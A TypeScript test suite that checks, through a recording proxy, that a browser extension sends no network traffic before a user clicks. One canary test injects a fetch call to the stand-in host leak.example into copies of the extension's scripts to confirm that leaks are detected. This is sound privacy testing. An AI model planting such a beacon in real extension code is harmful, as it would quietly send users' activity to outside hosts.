import { appendFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SAMPLE_POSTS } from '../../tools/sample/posts.ts';
import type { WebPage } from './drivers/driver.ts';
import { type RecordingProxy, startRecordingProxy } from './drivers/proxy.ts';
import {
  BROWSERS,
  type BrowserName,
  builtExtension,
  clickInNote,
  copyOfExtension,
  GROUP_URL,
  launch,
  noteWith,
  scratch,
  serveFeed,
} from './support/visit.ts';

/** What browsers ask for on their own account: updates, time, settings. A visit without Rambu shows the rest. */
const BROWSERS_OWN = /(^|\.)(google|googleapis|gvt1|gstatic|mozilla|firefox)\.(com|net|org)$/;
const SETTLE_MS = 4_000;

type Traffic = {
  /** Hosts that anything in the browser tried to reach through the proxy. */
  hosts: Set<string>;
  /** Addresses asked of the pages under test. */
  pages: Set<string>;
};

function hostOf(target: string): string {
  return target.includes('://') ? new URL(target).hostname : target.replace(/:\d+$/, '');
}

async function visit(
  browser: BrowserName,
  proxy: RecordingProxy,
  folder: string,
  extension?: string,
): Promise<Traffic> {
  const pages = new Set<string>();
  const answer = serveFeed(SAMPLE_POSTS);
  proxy.recorded.length = 0;
  const driver = await launch(browser, {
    profile: path.join(folder, `profile-${Math.random().toString(36).slice(2)}`),
    proxyPort: proxy.port,
    ...(extension ? { extension } : {}),
    route: (url) => {
      // A data: or blob: address goes nowhere.
      if (/^https?:/.test(url)) pages.add(url);
      return answer(url);
    },
  });
  try {
    const page = await driver.newPage();
    await page.goto(GROUP_URL);
    if (extension) await readTheFeed(page);
    await page.evaluate('window.scrollTo(0, document.body.scrollHeight)');
    await new Promise((resolve) => setTimeout(resolve, SETTLE_MS));
  } finally {
    await driver.close();
  }
  return { hosts: new Set(proxy.recorded.map(({ target }) => hostOf(target))), pages };
}

/** What a careful person does without reporting: opens a note, reads it, closes it. */
async function readTheFeed(page: WebPage): Promise<void> {
  await noteWith(page, /tanda bahaya/);
  await clickInNote(page, /tanda bahaya/, /Lihat alasan/);
  await noteWith(page, /Kemnaker|Kemlu|Menteri|catatan Rambu/);
  await clickInNote(page, /tanda bahaya/, /Tutup/);
}

/** What left the browser because of Rambu. */
function leaks(withRambu: Traffic, without: Traffic): string[] {
  const hosts = [...withRambu.hosts].filter((host) => !without.hosts.has(host) && !BROWSERS_OWN.test(host));
  const pages = [...withRambu.pages].filter(
    (page) => !without.pages.has(page) && !BROWSERS_OWN.test(hostOf(page)),
  );
  return [...new Set([...hosts, ...pages])];
}

describe.each(BROWSERS)('nothing leaves %s before a click', (browser) => {
  const { folder, remove } = scratch();
  let proxy: RecordingProxy;
  let without: Traffic;

  beforeAll(async () => {
    proxy = await startRecordingProxy();
    without = await visit(browser, proxy, folder);
  });
  afterAll(async () => {
    await proxy.close();
    remove();
  });

  it('sends nothing during a whole visit', async () => {
    expect(leaks(await visit(browser, proxy, folder, builtExtension(browser)), without)).toEqual([]);
  });

  it.each([
    ['background', 'background.js'],
    ['content script', 'content-scripts/scanner.js'],
  ])('would notice a leak from the %s', async (_where, file) => {
    const leaking = copyOfExtension(browser, folder);
    appendFileSync(
      path.join(leaking, file),
      '\n;fetch("https://leak.example/visit").catch(() => undefined);\n',
    );
    const found = leaks(await visit(browser, proxy, folder, leaking), without);
    expect(found.join(' ')).toContain('leak.example');
  });
});
